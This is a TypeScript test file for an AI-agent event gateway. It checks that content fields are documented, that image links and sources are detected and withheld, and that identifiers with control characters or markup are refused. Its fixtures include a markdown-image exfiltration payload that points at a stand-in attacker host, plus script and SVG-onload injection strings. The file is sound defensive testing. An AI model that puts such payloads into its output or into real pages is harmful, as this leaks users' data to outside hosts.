import { readFileSync } from "node:fs";
import type { JsonObject } from "@countersign/core";
import { CONTENT_PARTS, compilePolicy, createContentReader, loadPolicy } from "@countersign/policy";
import type { ContentPart } from "@countersign/policy";
import { stringFields } from "@countersign/testkit";
import type { StringField } from "@countersign/testkit";
import { EVENT_TABLE } from "@countersign/wire";
import type { AgUiEvent } from "@countersign/wire";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { assertEventIdentifiers } from "../enforce/identifiers.js";
import { OPEN_POLICY } from "../../testing/fixture.js";
import { createInProcess, frames } from "../../testing/in-process.js";

const FIELDS: readonly StringField[] = stringFields(EVENT_TABLE);
const IDS = new Set(FIELDS.map(({ id }) => id));
const IMAGE = "See ![x](https://evil.example/?d=1)";

/** The rows of the table under a heading of the page: the fields, and their descriptions. */
function rowsUnder(heading: string): { fields: string[]; says: string }[] {
  const page = readFileSync(
    new URL("../../../../../docs/policy/content-fields.md", import.meta.url),
    "utf8",
  ).split("\n");
  const from = page.findIndex((line) => line.startsWith(`| ${heading} |`));
  const rows = page.slice(from + 2);
  return rows.slice(0, rows.indexOf("")).map((line) => {
    const [, fields = "", says = ""] = line.split("|");
    return { fields: [...fields.matchAll(/`([^`]+)`/gu)].map(([, one]) => one as string), says };
  });
}

const READ = rowsUnder("field");
const UNREAD = rowsUnder("field that is not read");
const NAMES = rowsUnder("field without control characters").flatMap(({ fields }) => fields);
const PLAIN_IDS = rowsUnder("id without markup").flatMap(({ fields }) => fields);
const LISTED = [...READ, ...UNREAD].flatMap(({ fields }) => fields);

/** The entry for a field: its own, or the one for every owner. */
function entryFor(id: string, entries: readonly string[]): string | undefined {
  const everywhere = `*.${id.split(".")[1]}`;
  return entries.find((one) => one === id) ?? entries.find((one) => one === everywhere);
}

/** The words of `read` that include a field; none for one that is not read. */
function wordsFor(id: string): ContentPart[] {
  const entry = entryFor(id, LISTED);
  const row = READ.find(({ fields }) => fields.includes(entry ?? ""));
  return CONTENT_PARTS.filter((word) => row?.says.includes(`\`${word}\``));
}

test("the page lists every field of the protocol that can hold text once, and no other", () => {
  expect([...IDS].filter((id) => entryFor(id, LISTED) === undefined)).toEqual([]);
  expect(LISTED.filter((one) => !one.startsWith("*") && !IDS.has(one))).toEqual([]);
  expect(new Set(LISTED).size).toBe(LISTED.length);
  for (const entry of [...LISTED, ...NAMES, ...PLAIN_IDS]) {
    expect([entry, [...IDS].some((id) => entryFor(id, [entry]) === entry)]).toEqual([entry, true]);
  }
  for (const { fields, says } of UNREAD) expect([fields, says.trim()]).not.toEqual([fields, ""]);
});

function readerOf(words: readonly ContentPart[]): ReturnType<typeof createContentReader> {
  const read = `  ag_ui_content: { read: [${words.join(", ")}] }\n`;
  const { content } = compilePolicy(loadPolicy(OPEN_POLICY + read));
  return createContentReader(content!);
}

/** The gateway judges messages one by one. */
const LISTS: ReadonlySet<string> = new Set(["MESSAGES_SNAPSHOT", "RUN_STARTED"]);
const isListed = ({ id, type }: StringField): boolean =>
  LISTS.has(type) && !id.startsWith("*") && !id.startsWith(type);

test("a field that the page calls read is read under its word, and one that it calls unread is not", () => {
  for (const field of FIELDS.filter((one) => !isListed(one))) {
    const words = wordsFor(field.id);
    const event = field.make(IMAGE) as JsonObject;
    const found = [words, CONTENT_PARTS.filter((word) => !words.includes(word))].map(
      (asked) => readerOf(asked).read(event)?.kind,
    );
    // A text that is not an address is found whatever the policy reads.
    const isAddress = field.id === "UrlSource.value";
    const expected = isAddress ? "sources" : words.length === 0 ? undefined : "images";
    const other = isAddress ? "sources" : undefined;
    expect([field.id, field.type, ...found]).toEqual([field.id, field.type, expected, other]);
  }
});

const READS_ALL = `${OPEN_POLICY}  ag_ui_content: { read: [${CONTENT_PARTS.join(", ")}] }
  ag_ui_order: { on_error: allow }
`;

async function listed(field: StringField): Promise<{ rules: string[]; delivered: string }> {
  const ids = { threadId: "x", runId: "x" };
  const event = field.make(IMAGE);
  const opening = event.type === "RUN_STARTED" ? [] : [{ type: "RUN_STARTED", ...ids }];
  const gateway = createInProcess(READS_ALL);
  const events = [...opening, event, { type: "RUN_FINISHED", ...ids }];
  const { delivered } = await gateway.run({ ...ids, messages: [] }, frames(events));
  await gateway.close();
  const rules = gateway.recorder.drafts.flatMap(({ rule }) => rule ?? []);
  return { rules, delivered: JSON.stringify(delivered) };
}

test("a field that the page calls read is read in message lists and in the echo of a request", async () => {
  const fields = FIELDS.filter(
    (one) =>
      isListed(one) && wordsFor(one.id).length > 0 && entryFor(one.id, PLAIN_IDS) === undefined,
  );
  expect(fields.length).toBeGreaterThan(50);
  for (const field of fields) {
    const { rules, delivered } = await listed(field);
    const [rule = "none"] = rules;
    // A part of a message in the person's role is withheld with the message.
    const isPersons = JSON.stringify(field.make(IMAGE)).includes('"role":"user"');
    expect([field.id, delivered.includes("evil"), rule]).toEqual([
      field.id,
      false,
      isPersons
        ? "ag_ui_messages.unknown_user"
        : `ag_ui_content.${field.id === "UrlSource.value" ? "sources" : "images"}`,
    ]);
  }
});

test("names, ids and codes may have no control characters, and other fields may", () => {
  for (const field of FIELDS) {
    const isName = entryFor(field.id, NAMES) !== undefined;
    for (const character of ["\n", "\u009B", "\u202E", "\u2028", "\u{E0041}"]) {
      const check = (): void =>
        assertEventIdentifiers(field.make(`a${character}b`) as unknown as AgUiEvent, 1024);
      let code: unknown;
      try {
        check();
      } catch (error) {
        code = (error as { code?: unknown }).code;
      }
      expect([field.id, field.type, code]).toEqual([
        field.id,
        field.type,
        isName ? "ERR_ID_CHARACTERS" : undefined,
      ]);
    }
  }
});

/** The code with which a value in a field is refused. */
function refusalOf(field: StringField, value: string): unknown {
  try {
    assertEventIdentifiers(field.make(value) as unknown as AgUiEvent, 1024);
    return undefined;
  } catch (error) {
    return (error as { code?: unknown }).code;
  }
}

test("ids may have no markup and not only white space, and other fields may", () => {
  for (const field of FIELDS) {
    const isId = entryFor(field.id, PLAIN_IDS) !== undefined;
    for (const value of [IMAGE, "[a](//b)", "<svg/onload=x>", "a<script>", "<!--", " "]) {
      expect([field.id, field.type, value, refusalOf(field, value)]).toEqual([
        field.id,
        field.type,
        value,
        isId ? "ERR_ID_CHARACTERS" : undefined,
      ]);
    }
  }
});

test("ids of real frameworks pass in every field", () => {
  const ids = fc.oneof(
    fc.uuid(),
    fc.stringMatching(
      /^(?:chatcmpl-|call_|toolu_|run-|run--|lc_|msg_|resp:|thread\|)[\w.:|/=+-]{1,60}$/u,
    ),
    fc.emailAddress(),
    fc.emailAddress().map((address) => `<${address.replaceAll("/", "_")}>`),
    fc.webUrl(),
    fc.constantFrom("", "a < b", "x[0]", "Müller 7", "[draft] plan", "a>b"),
  );
  fc.assert(
    fc.property(fc.constantFrom(...FIELDS), ids, (field, id) => {
      expect([field.id, id, refusalOf(field, id)]).toEqual([field.id, id, undefined]);
    }),
    { numRuns: 500 },
  );
});
